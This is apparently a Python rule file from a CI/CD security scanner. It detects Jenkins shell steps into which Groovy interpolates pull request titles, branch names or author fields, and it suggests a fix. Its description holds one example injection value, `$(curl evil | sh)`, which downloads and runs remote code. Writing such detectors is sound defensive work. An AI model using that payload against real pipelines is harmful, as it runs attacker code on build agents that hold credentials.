"""JK-SCRIPT-INJECTION: pull request fields interpolated by Groovy into a shell script."""

from __future__ import annotations

import re
from collections.abc import Iterator

from secloop.core.enums import Confidence, Severity, Stage
from secloop.core.model import Finding
from secloop.core.rules import Rule
from secloop.pipeline.jenkins.audits.interface import JenkinsAuditBase
from secloop.pipeline.jenkins.model import Jenkinsfile

RULE = Rule(
    id="JK-SCRIPT-INJECTION",
    title="Pull request field interpolated into a Jenkins shell step",
    stage=Stage.PIPELINE,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description=(
        "In a double-quoted Groovy string, `${env.CHANGE_TITLE}` is replaced before the shell sees the "
        "script. A pull request title, source branch or author name is chosen by its author, so a value "
        "such as `$(curl evil | sh)` runs on the agent with the build's credentials."
    ),
    fix=(
        "Use a single-quoted script and let the shell read the variable: `sh 'echo \"$CHANGE_TITLE\"'` "
        "(Jenkins exports CHANGE_* to the environment)."
    ),
    cwe=(78, 94),
    cicd_sec=(4,),
)

ATTACKER_FIELDS = (
    "CHANGE_TITLE",
    "CHANGE_BRANCH",
    "CHANGE_AUTHOR",
    "CHANGE_AUTHOR_DISPLAY_NAME",
    "CHANGE_AUTHOR_EMAIL",
    "CHANGE_FORK",
)
GROOVY_REF = re.compile(
    r"(?<!\\)\$\{\s*(?:env\.)?(" + "|".join(ATTACKER_FIELDS) + r")\s*\}"
    r"|(?<!\\)\$(?:env\.)?(" + "|".join(ATTACKER_FIELDS) + r")\b"
)


class ScriptInjection(JenkinsAuditBase):
    rule = RULE

    def audit(self, file: Jenkinsfile) -> Iterator[Finding]:
        for shell in file.shells:
            if not shell.script.interpolated:
                continue
            for match in GROOVY_REF.finditer(shell.script.text):
                field = match.group(1) or match.group(2)
                start = shell.script.body_start + match.start()
                yield self.finding(
                    file,
                    f"`{match.group(0)}` is interpolated by Groovy into a {shell.command} step; "
                    f"{field} is written by the pull request's author",
                    file.location(start, shell.script.body_start + match.end()),
                    key=(field, str(shell.script.start)),
                )
